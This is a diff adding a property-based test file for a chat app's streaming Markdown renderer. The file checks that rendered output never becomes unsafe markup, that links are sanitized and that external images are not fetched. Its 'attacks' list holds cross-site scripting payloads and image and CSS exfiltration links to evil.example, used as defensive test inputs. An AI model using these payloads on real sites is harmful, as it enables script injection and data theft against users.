@@ -1,0 +1,184 @@
+import { act, render, screen } from '@testing-library/react'
+import fc from 'fast-check'
+import { ConversationSurroundings } from '../text.tsx'
+import { blockOf, sourcesOf } from './block.ts'
+import { inlineOf, safeAddress } from './inline.ts'
+import { Markdown } from './Markdown.tsx'
+
+const own = 'https://portal.example/api/'
+
+function draw(text: string, isComing = false) {
+  const load = jest.fn(() => new Promise<Blob>(() => {}))
+  const { container, rerender, unmount } = render(<Shown text={text} isComing={isComing} load={load} />)
+  return {
+    container,
+    load,
+    unmount,
+    grow: (more: string, coming: boolean) => rerender(<Shown text={more} isComing={coming} load={load} />),
+  }
+}
+
+const Shown = ({ text, isComing, load }: { text: string; isComing: boolean; load: () => Promise<Blob> }) => (
+  <ConversationSurroundings resources={own} load={load}>
+    <Markdown text={text} isComing={isComing} />
+  </ConversationSurroundings>
+)
+
+const allowed = new Set('DIV P H3 H4 H5 UL OL LI STRONG EM DEL CODE PRE BR HR A BLOCKQUOTE TABLE THEAD TBODY TR TH TD SPAN'.split(' '))
+const attributes = new Set(['class', 'href', 'target', 'rel', 'start', 'tabindex', 'scope', 'role', 'aria-label'])
+
+/** What must hold for any text whatever. */
+function expectHarmless(container: HTMLElement) {
+  for (const element of container.querySelectorAll('*')) {
+    if (!allowed.has(element.tagName)) throw new Error(`drawn: ${element.outerHTML}`)
+    for (const { name, value } of element.attributes) {
+      if (!attributes.has(name)) throw new Error(`drawn: ${element.outerHTML}`)
+      if (name === 'href' && !/^(https?:\/\/|mailto:)/.test(value)) throw new Error(`leads to: ${value}`)
+    }
+    if (element.tagName === 'A' && element.getAttribute('rel') !== 'noopener noreferrer') throw new Error(element.outerHTML)
+  }
+}
+
+const attacks = [
+  '<script>alert(1)</script>',
+  '<img src=x onerror="alert(1)">',
+  '<svg/onload=alert(1)><animate onbegin=alert(1)>',
+  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+  '<a href="javascript:alert(1)">x</a><base href="https://evil.example/">',
+  '<style>*{background:url(https://evil.example/?q)}</style><link rel=stylesheet href=//evil.example>',
+  '[click](javascript:alert(1)) [click](JaVaScRiPt:alert(1)) [click](data:text/html,<script>1</script>)',
+  '[click](java\nscript:alert(1)) [x](vbscript:1) [x]( javascript:alert(1)) [x](\u0001javascript:1)',
+  '![secret](https://evil.example/?q=serial) ![secret](//evil.example/a.png)',
+  '![secret](https://portal.example.evil.example/api/a.png) ![s](https://portal.example@evil.example/api/a.png)',
+  '![s](https://portal.example/api/../../steal) ![s](data:image/svg+xml,<svg onload=alert(1)>) ![s](blob:https://portal.example/1)',
+  '**<img src=x onerror=alert(1)>** `<script>` | <b>a</b> |\n|---|\n| <script>alert(1)</script> |',
+  '[![in](https://evil.example/a.png)](https://evil.example/b) <https://evil.example>',
+  '```html\n<script>alert(1)</script>\n```\n- <img src=x onerror=alert(1)>\n> <iframe>',
+  '# <script>alert(1)</script>\n1. <object data=x></object>',
+  '&lt;script&gt;alert(1)&lt;/script&gt; &#60;img src=x&#62;',
+  '[a](https://user:secret@evil.example/) [a](https://good.example/"onmouseover="alert(1))',
+]
+
+test.each(attacks)('CHAT-51 nothing of %j is ever markup, at whatever place the stream is cut', (attack) => {
+  const { container, load, grow } = draw('', true)
+  for (let end = 1; end <= attack.length; end++) {
+    grow(attack.slice(0, end), true)
+    expectHarmless(container)
+  }
+  grow(attack, false)
+  expectHarmless(container)
+  expect(load).not.toHaveBeenCalled()
+})
+
+test('no text at all is drawn as markup of its own', () => {
+  const part = fc.oneof(
+    fc.constantFrom(...attacks),
+    fc.constantFrom('**', '*', '_', '`', '```\n', '[', '](', ')', '![', '<', '>', '\n', '\n\n', '- ', '1. ', '# ', '| ', '~~', '\\', '  '),
+    fc.string({ maxLength: 12 }),
+  )
+  fc.assert(
+    fc.property(fc.array(part, { maxLength: 14 }), fc.boolean(), (parts, isComing) => {
+      const { container, unmount } = draw(parts.join(''), isComing)
+      expectHarmless(container)
+      unmount()
+    }),
+    { numRuns: 300 },
+  )
+})
+
+test('however a text is cut on its way, it is drawn the same in the end', () => {
+  const part = fc.constantFrom(
+    '**bold** ',
+    '`code` ',
+    '\n\n',
+    '\n- item',
+    '\n1. step',
+    '\n## Head\n',
+    'plain ',
+    '[a](https://x.example) ',
+    '\n| a | b |',
+  )
+  fc.assert(
+    fc.property(fc.array(part, { minLength: 1, maxLength: 12 }), fc.array(fc.nat(120), { maxLength: 6 }), (parts, cuts) => {
+      const text = parts.join('')
+      const once = draw(text)
+      const pieces = draw('', true)
+      for (const cut of [...cuts].sort((a, b) => a - b)) pieces.grow(text.slice(0, cut), true)
+      pieces.grow(text, false)
+      expect(pieces.container.innerHTML).toBe(once.container.innerHTML)
+      once.unmount()
+      pieces.unmount()
+    }),
+    { numRuns: 100 },
+  )
+})
+
+test('blocks before the last do not change when the text grows', () => {
+  const line = fc.constantFrom('text', '', '- item', '  - below', '1. step', '# head', '> said', '| a | b |', '```', '---', '   more')
+  fc.assert(
+    fc.property(fc.array(line, { minLength: 2, maxLength: 16 }), fc.nat(15), (lines, at) => {
+      const whole = sourcesOf(lines.join('\n'))
+      const part = sourcesOf(lines.slice(0, at + 1).join('\n'))
+      expect(whole.slice(0, Math.max(0, part.length - 1))).toEqual(part.slice(0, -1))
+    }),
+  )
+})
+
+test('CHAT-51 headings, bold and bulleted bold items', () => {
+  const { container } = draw('### Reset\n\nHold **ENTER**:\n\n- **First** press\n- **Second** wait')
+  expect(screen.getByRole('heading', { name: 'Reset' })).toBeVisible()
+  expect([...container.querySelectorAll('strong')].map(({ textContent }) => textContent)).toEqual(['ENTER', 'First', 'Second'])
+  expect(screen.getAllByRole('listitem')).toHaveLength(2)
+})
+
+test('steps keep their numbers and what is below them', () => {
+  const { container } = draw('3. Open the cover\n   - two screws\n   - one clip\n4. Press')
+  expect(container.querySelector('ol')).toHaveAttribute('start', '3')
+  expect(container.querySelectorAll('ol > li')).toHaveLength(2)
+  expect(container.querySelectorAll('ol > li > ul > li')).toHaveLength(2)
+})
+
+test('a table', () => {
+  draw('| Code | Meaning |\n|---|---|\n| E01 | **Grid** lost |')
+  expect(screen.getByRole('columnheader', { name: 'Code' })).toBeVisible()
+  expect(screen.getByRole('cell', { name: 'Grid lost' })).toBeVisible()
+})
+
+test('a mark that is not closed yet is already what it will be, and is text if it never is', () => {
+  expect(inlineOf('Hold **ENT', true)).toEqual(['Hold ', { kind: 'strong', children: ['ENT'] }])
+  expect(inlineOf('Hold **', true)).toEqual(['Hold '])
+  expect(inlineOf('Hold **ENT')).toEqual(['Hold **ENT'])
+  expect(inlineOf('see [the manual](https://exa', true)).toEqual(['see the manual'])
+  expect(blockOf('##', true)).toEqual({ kind: 'paragraph', text: '' })
+})
+
+test('marks within words are text', () => {
+  expect(inlineOf('snake_case_name, 2 * 3 * 4')).toEqual(['snake_case_name, 2 * 3 * 4'])
+})
+
+test('an address leads where it says, in a new window and without telling where from', () => {
+  draw('See https://portal.example/manual.pdf, or [here](https://portal.example/a_(b)).')
+  for (const link of screen.getAllByRole('link')) {
+    expect(link).toHaveAttribute('target', '_blank')
+    expect(link).toHaveAttribute('rel', 'noopener noreferrer')
+  }
+  expect(screen.getByRole('link', { name: 'https://portal.example/manual.pdf' })).toHaveAttribute(
+    'href',
+    'https://portal.example/manual.pdf',
+  )
+  expect(safeAddress('javascript:alert(1)')).toBeUndefined()
+})
+
+test("an image of our own service is read with the session's rights; of any other only its words are shown", async () => {
+  const { container, load } = draw('![The display](/api/file/1) ![Elsewhere](https://evil.example/a.png)')
+  await act(async () => {})
+  expect(load).toHaveBeenCalledTimes(1)
+  expect(load).toHaveBeenCalledWith('https://portal.example/api/file/1', expect.anything())
+  expect(container).toHaveTextContent('Elsewhere')
+})
+
+test('twenty thousand open marks are read in no time', () => {
+  const began = performance.now()
+  for (const mark of ['**a', '*', '_', '[', '`', '![', '~~', '(https://', '|']) inlineOf(mark.repeat(20_000 / mark.length), true)
+  expect(performance.now() - began).toBeLessThan(5_000)
+})
